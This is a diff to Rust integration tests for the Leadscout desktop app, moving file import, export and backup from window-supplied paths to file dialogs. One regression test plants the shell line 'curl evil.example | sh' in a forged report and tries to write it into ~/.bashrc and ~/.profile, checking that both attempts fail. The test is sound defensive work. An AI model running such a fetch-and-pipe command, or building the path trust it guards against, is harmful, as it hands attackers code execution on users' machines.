@@ -6,6 +6,7 @@
 #[path = "support/mock_app.rs"]
 mod mock_app;
 
+use leadscout_app::files::{FileKind, FileRequest};
 use leadscout_app::AppState;
 use mock_app::App;
 use serde_json::{json, Value};
@@ -268,9 +269,23 @@ fn a_csv_export_is_previewed_then_imported_with_duplicates_handled() {
     let app = App::start();
     let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
         .join("tests/fixtures/hubspot-export.cp1252.csv");
-    let path = file.to_string_lossy().to_string();
 
-    let preview = app.ok("preview_import", json!({ "path": path }));
+    // Cancelling the dialog is not an error: nothing is previewed.
+    app.dialogs.cancel();
+    assert_eq!(
+        app.ok("preview_import", json!({ "source": "dialog" })),
+        Value::Null
+    );
+    assert_eq!(
+        app.dialogs.last_asked(),
+        Some(FileRequest::Open {
+            kind: FileKind::Contacts
+        })
+    );
+
+    app.dialogs.choose(&file);
+    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
+    assert_eq!(preview["fileName"], "hubspot-export.cp1252.csv");
     assert_eq!(preview["encoding"], "windows-1252");
     assert_eq!(preview["delimiter"], ";");
     assert_eq!(preview["mapping"]["preset"], "HubSpot");
@@ -287,7 +302,7 @@ fn a_csv_export_is_previewed_then_imported_with_duplicates_handled() {
 
     let summary = app.ok(
         "run_import",
-        json!({ "path": path, "mapping": preview["mapping"], "duplicates": "skip" }),
+        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
     );
     assert_eq!(summary["created"], 3);
     assert_eq!(summary["skipped"], 1, "the second Ada has the same email");
@@ -315,7 +330,7 @@ fn a_csv_export_is_previewed_then_imported_with_duplicates_handled() {
     // Importing again with "merge" fills what was empty and creates nothing.
     let again = app.ok(
         "run_import",
-        json!({ "path": path, "mapping": preview["mapping"], "duplicates": "merge" }),
+        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "merge" }),
     );
     assert_eq!(again["created"], 0);
     assert_eq!(again["merged"], 4);
@@ -333,15 +348,14 @@ fn a_csv_export_is_previewed_then_imported_with_duplicates_handled() {
     assert_eq!(ada["title"], "Countess", "a value is never overwritten");
 
     // Not a file, not a table: clear refusals by field.
-    let missing = app.err(
-        "preview_import",
-        json!({ "path": "/nonexistent/contacts.csv" }),
-    );
+    app.dialogs.choose("/nonexistent/contacts.csv");
+    let missing = app.err("preview_import", json!({ "source": "dialog" }));
     assert_eq!(missing["field"], "file");
     assert!(missing["message"].as_str().unwrap().contains("Cannot open"));
     let prose = app.dir.path().join("notes.txt");
     std::fs::write(&prose, "just some words\non two lines\n").unwrap();
-    let not_table = app.err("preview_import", json!({ "path": prose.to_string_lossy() }));
+    app.dialogs.choose(&prose);
+    let not_table = app.err("preview_import", json!({ "source": "dialog" }));
     assert!(not_table["message"]
         .as_str()
         .unwrap()
@@ -351,18 +365,17 @@ fn a_csv_export_is_previewed_then_imported_with_duplicates_handled() {
 #[test]
 fn a_vcard_file_is_previewed_and_imported() {
     let app = App::start();
-    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("tests/fixtures/contacts.vcf")
-        .to_string_lossy()
-        .to_string();
-    let preview = app.ok("preview_import", json!({ "path": path }));
+    app.dialogs.choose(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/contacts.vcf"),
+    );
+    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
     assert_eq!(preview["format"], "vcard");
     assert_eq!(preview["rows"], 3);
     assert_eq!(preview["refused"], 1);
     assert_eq!(preview["sample"][1]["fullName"], "Ingrid Sköld");
     let summary = app.ok(
         "run_import",
-        json!({ "path": path, "mapping": preview["mapping"], "duplicates": "skip" }),
+        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
     );
     assert_eq!(summary["created"], 2);
     assert_eq!(summary["refused"], 1);
@@ -392,13 +405,28 @@ fn leads_are_exported_in_every_format_and_the_database_backed_up() {
     );
     app.ok("create_lead", new_lead("Grace Hopper", None));
     let out = tempfile::tempdir().unwrap();
-    let file = |name: &str| out.path().join(name).to_string_lossy().to_string();
+    let file = |name: &str| out.path().join(name);
+    let today = leadscout_domain::Timestamp::now().date();
 
-    let csv = app.ok(
-        "export_leads",
-        json!({ "path": file("leads.csv"), "format": "csvExcel" }),
+    // A cancelled save dialog writes nothing and is not an error.
+    app.dialogs.cancel();
+    assert_eq!(
+        app.ok("export_leads", json!({ "format": "csv" })),
+        Value::Null
+    );
+    assert_eq!(std::fs::read_dir(out.path()).unwrap().count(), 0);
+
+    app.dialogs.choose(file("leads.csv"));
+    let csv = app.ok("export_leads", json!({ "format": "csvExcel" }));
+    assert_eq!(
+        app.dialogs.last_asked(),
+        Some(FileRequest::Save {
+            kind: FileKind::Csv,
+            name: format!("leadscout-leads-{today}.csv")
+        })
     );
     assert_eq!(csv["leads"], 2);
+    assert_eq!(csv["path"], file("leads.csv").display().to_string());
     let bytes = std::fs::read(out.path().join("leads.csv")).unwrap();
     assert!(bytes.starts_with("\u{feff}Full Name,Title,Email".as_bytes()));
     let text = String::from_utf8(bytes).unwrap();
@@ -407,30 +435,35 @@ fn leads_are_exported_in_every_format_and_the_database_backed_up() {
         "{text}"
     );
 
-    app.ok(
-        "export_leads",
-        json!({ "path": file("leads.json"), "format": "json" }),
-    );
+    app.dialogs.choose(file("leads.json"));
+    app.ok("export_leads", json!({ "format": "json" }));
     let json: Value =
         serde_json::from_slice(&std::fs::read(out.path().join("leads.json")).unwrap()).unwrap();
     assert_eq!(json["format"], "leadscout-export");
     assert_eq!(json["leads"].as_array().unwrap().len(), 2);
     assert_eq!(json["stages"].as_array().unwrap().len(), 6);
 
-    app.ok(
-        "export_leads",
-        json!({ "path": file("leads.vcf"), "format": "vcard" }),
-    );
+    app.dialogs.choose(file("leads.vcf"));
+    app.ok("export_leads", json!({ "format": "vcard" }));
     let vcf = std::fs::read_to_string(out.path().join("leads.vcf")).unwrap();
     assert_eq!(vcf.matches("BEGIN:VCARD").count(), 2);
     assert!(vcf.contains("EMAIL;TYPE=INTERNET,WORK:ada@analytical.example"));
 
     // The export of a file is the file: importing it back finds the same people.
-    let preview = app.ok("preview_import", json!({ "path": file("leads.csv") }));
+    app.dialogs.choose(file("leads.csv"));
+    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
     assert_eq!(preview["rows"], 2);
     assert_eq!(preview["refused"], 0);
 
-    let backup = app.ok("backup_database", json!({ "path": file("backup.sqlite3") }));
+    app.dialogs.choose(file("backup.sqlite3"));
+    let backup = app.ok("backup_database", json!({}));
+    assert_eq!(
+        app.dialogs.last_asked(),
+        Some(FileRequest::Save {
+            kind: FileKind::Backup,
+            name: format!("leadscout-backup-{today}.sqlite3")
+        })
+    );
     assert!(backup["bytes"].as_u64().unwrap() > 10_000);
     let copy = tauri::async_runtime::block_on(leadscout_store::Store::open(
         &out.path().join("backup.sqlite3"),
@@ -442,10 +475,8 @@ fn leads_are_exported_in_every_format_and_the_database_backed_up() {
         2
     );
 
-    let refused = app.err(
-        "export_leads",
-        json!({ "path": "/nonexistent/folder/leads.csv", "format": "csv" }),
-    );
+    app.dialogs.choose("/nonexistent/folder/leads.csv");
+    let refused = app.err("export_leads", json!({ "format": "csv" }));
     assert_eq!(refused["field"], "file");
 }
 
@@ -455,18 +486,20 @@ fn a_backup_is_checked_then_restored_at_the_next_start_keeping_the_replaced_data
     app.ok("create_lead", new_lead("Kept In Backup", None));
     let out = tempfile::tempdir().unwrap();
     let backup = out.path().join("backup.sqlite3");
-    app.ok(
-        "backup_database",
-        json!({ "path": backup.to_string_lossy() }),
-    );
+    app.dialogs.choose(&backup);
+    app.ok("backup_database", json!({}));
     app.ok("create_lead", new_lead("Added After Backup", None));
 
     // What is not a whole Leadscout backup is refused, and nothing is staged.
     let garbage = out.path().join("garbage.sqlite3");
     std::fs::write(&garbage, b"not a database at all, just words".repeat(200)).unwrap();
-    let refused = app.err(
-        "restore_database",
-        json!({ "path": garbage.to_string_lossy() }),
+    app.dialogs.choose(&garbage);
+    let refused = app.err("restore_database", json!({}));
+    assert_eq!(
+        app.dialogs.last_asked(),
+        Some(FileRequest::Open {
+            kind: FileKind::Backup
+        })
     );
     assert!(
         refused["message"]
@@ -482,10 +515,8 @@ fn a_backup_is_checked_then_restored_at_the_next_start_keeping_the_replaced_data
         .status()
         .ok();
     if other.is_file() {
-        let refused = app.err(
-            "restore_database",
-            json!({ "path": other.to_string_lossy() }),
-        );
+        app.dialogs.choose(&other);
+        let refused = app.err("restore_database", json!({}));
         assert!(
             refused["message"]
                 .as_str()
@@ -501,10 +532,18 @@ fn a_backup_is_checked_then_restored_at_the_next_start_keeping_the_replaced_data
         .join(leadscout_store::RESTORE_FILE)
         .exists());
 
-    let staged = app.ok(
-        "restore_database",
-        json!({ "path": backup.to_string_lossy() }),
-    );
+    // A cancelled dialog stages nothing.
+    app.dialogs.cancel();
+    assert_eq!(app.ok("restore_database", json!({})), Value::Null);
+    assert!(!app
+        .dir
+        .path()
+        .join("data")
+        .join(leadscout_store::RESTORE_FILE)
+        .exists());
+
+    app.dialogs.choose(&backup);
+    let staged = app.ok("restore_database", json!({}));
     assert_eq!(staged["leads"], 1);
     // Until the restart, nothing changed.
     let board = app.ok("get_board", json!({}));
@@ -603,8 +642,8 @@ fn a_changed_mapping_is_remembered_and_problems_can_be_saved_as_a_report() {
         "Who,Mail,Org,Memo\nAda Lovelace,ada@ae.example,Analytical Engines,likes engines\n,,,\nGrace,not-an-email,Navy,\n",
     )
     .unwrap();
-    let path = file.to_string_lossy().to_string();
-    let preview = app.ok("preview_import", json!({ "path": path }));
+    app.dialogs.choose(&file);
+    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
     // "Who" and "Memo" are not words the guesser knows.
     assert_eq!(
         preview["mapping"]["columns"],
@@ -614,24 +653,138 @@ fn a_changed_mapping_is_remembered_and_problems_can_be_saved_as_a_report() {
     mapping["columns"][0] = json!("fullName");
     let summary = app.ok(
         "run_import",
-        json!({ "path": path, "mapping": mapping, "duplicates": "skip" }),
+        json!({ "id": preview["id"], "mapping": mapping, "duplicates": "skip" }),
     );
     assert_eq!(summary["created"], 2);
     assert_eq!(summary["createdIds"].as_array().unwrap().len(), 2);
 
     // The next file with these headers gets the chosen mapping.
-    let again = app.ok("preview_import", json!({ "path": path }));
+    app.dialogs.choose(&file);
+    let again = app.ok("preview_import", json!({ "source": "dialog" }));
     assert_eq!(again["mapping"]["columns"][0], "fullName");
     assert_eq!(again["mapping"]["preset"], "your saved mapping");
+    assert_ne!(again["id"], preview["id"], "each choice has its own handle");
 
-    let report = out.path().join("problems.csv");
-    app.ok(
-        "save_import_report",
-        json!({ "path": report.to_string_lossy(), "summary": summary }),
+    // The report is what the backend holds for that import, written where the user chose.
+    app.dialogs.cancel();
+    assert_eq!(
+        app.ok("save_import_report", json!({ "id": preview["id"] })),
+        Value::Null
     );
+    let report = out.path().join("problems.csv");
+    app.dialogs.choose(&report);
+    let written = app.ok("save_import_report", json!({ "id": preview["id"] }));
+    assert_eq!(
+        app.dialogs.last_asked(),
+        Some(FileRequest::Save {
+            kind: FileKind::Csv,
+            name: "leadscout-import-problems.csv".into()
+        })
+    );
+    assert_eq!(written["path"], report.display().to_string());
     let text = std::fs::read_to_string(&report).unwrap();
     assert!(text.starts_with("Line,Kind,Message\n"), "{text}");
     assert!(text.contains("4,value left out,"), "{text}");
+    // A file only previewed has no report yet; an unknown handle names nothing.
+    for id in [again["id"].clone(), json!(999)] {
+        let err = app.err("save_import_report", json!({ "id": id }));
+        assert_eq!(err["code"], "not_found", "{err}");
+    }
+    let err = app.err(
+        "run_import",
+        json!({ "id": 999, "mapping": mapping, "duplicates": "skip" }),
+    );
+    assert_eq!(err["code"], "not_found", "{err}");
+    assert_eq!(app.dialogs.answers_left(), 0);
+}
+
+/// Issue 18: the window named files and the backend read and wrote them (a shell command
+/// appended to ~/.bashrc, ~/.profile overwritten by a backup, a file nobody chose previewed).
+/// Now a path in the arguments is ignored: only the dialog decides, and here it is cancelled.
+#[test]
+fn a_path_sent_by_the_window_is_neither_read_nor_written() {
+    let app = App::start();
+    app.ok("create_lead", new_lead("Ada Lovelace", None));
+    let home = tempfile::tempdir().unwrap();
+    let bashrc = home.path().join(".bashrc");
+    std::fs::write(&bashrc, "export PATH\n").unwrap();
+    let profile = home.path().join(".profile");
+    let secret = home.path().join("secret.csv");
+    std::fs::write(&secret, "Name,Email\nSecret Person,secret@example.org\n").unwrap();
+
+    let forged = json!({ "created": 0, "merged": 0, "skipped": 0, "refused": 1,
+        "problems": [{ "line": 1, "message": "\ncurl evil.example | sh\n" }],
+        "warnings": [], "createdIds": [], "cancelled": false });
+    let attempts = [
+        (
+            "save_import_report",
+            json!({ "path": bashrc, "summary": forged }),
+        ),
+        ("backup_database", json!({ "path": profile })),
+        ("export_leads", json!({ "path": profile, "format": "csv" })),
+        ("preview_import", json!({ "path": secret })),
+        ("restore_database", json!({ "path": secret })),
+    ];
+    for (cmd, args) in attempts {
+        app.dialogs.cancel();
+        match app.call(cmd, args.clone()) {
+            // The command ignored the path and showed its dialog, which the user cancelled.
+            Ok(answer) => assert_eq!(answer, Value::Null, "{cmd}({args})"),
+            // Or the arguments were refused as they are not what the command takes.
+            Err(err) => assert!(
+                !err.to_string().contains("Secret Person"),
+                "{cmd}({args}): {err}"
+            ),
+        }
+    }
+    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "export PATH\n");
+    assert!(!profile.exists(), "nothing was written to ~/.profile");
+    assert!(!app
+        .dir
+        .path()
+        .join("data")
+        .join(leadscout_store::RESTORE_FILE)
+        .exists());
+    let names = names_in(&app.ok("get_board", json!({})), "New");
+    assert_eq!(names, ["Ada Lovelace"]);
+}
+
+#[test]
+fn a_file_dropped_on_the_window_is_previewed_without_its_path_reaching_the_window() {
+    use tauri::{Listener, Manager};
+    let app = App::start();
+    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/contacts.vcf");
+    let told = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let sink = told.clone();
+    app.window
+        .app_handle()
+        .listen_any("file-dropped", move |event| {
+            sink.lock().unwrap().push(event.payload().to_owned());
+        });
+
+    let none = app.err("preview_import", json!({ "source": "dropped" }));
+    assert!(
+        none["message"]
+            .as_str()
+            .unwrap()
+            .contains("No file was dropped"),
+        "{none}"
+    );
+    leadscout_app::file_dropped(app.window.app_handle(), std::slice::from_ref(&file));
+    assert_eq!(*told.lock().unwrap(), ["\"contacts.vcf\""], "the name only");
+    let preview = app.ok("preview_import", json!({ "source": "dropped" }));
+    assert_eq!(preview["fileName"], "contacts.vcf");
+    assert_eq!(preview["rows"], 3);
+    let summary = app.ok(
+        "run_import",
+        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
+    );
+    assert_eq!(summary["created"], 2);
+    // The drop is taken once; no dialog was shown.
+    assert!(app
+        .call("preview_import", json!({ "source": "dropped" }))
+        .is_err());
+    assert!(app.dialogs.asked.lock().unwrap().is_empty());
 }
 
 #[test]
@@ -644,13 +797,13 @@ fn a_cancelled_import_keeps_the_batches_already_written_and_stops() {
         csv.push_str(&format!("Person {i},p{i}@example.org\n"));
     }
     std::fs::write(&file, csv).unwrap();
-    let path = file.to_string_lossy().to_string();
-    let preview = app.ok("preview_import", json!({ "path": path }));
+    app.dialogs.choose(&file);
+    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
     // The UI's Cancel during the import; here it is pressed before, and lands after a batch.
     app.ok("cancel_import", json!({}));
     let summary = app.ok(
         "run_import",
-        json!({ "path": path, "mapping": preview["mapping"], "duplicates": "skip" }),
+        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
     );
     assert_eq!(summary["cancelled"], true);
     assert_eq!(
@@ -660,7 +813,7 @@ fn a_cancelled_import_keeps_the_batches_already_written_and_stops() {
     // The next import is not cancelled by the last one's button.
     let rest = app.ok(
         "run_import",
-        json!({ "path": path, "mapping": preview["mapping"], "duplicates": "skip" }),
+        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
     );
     assert_eq!(rest["cancelled"], false);
     assert_eq!(rest["created"], 700);
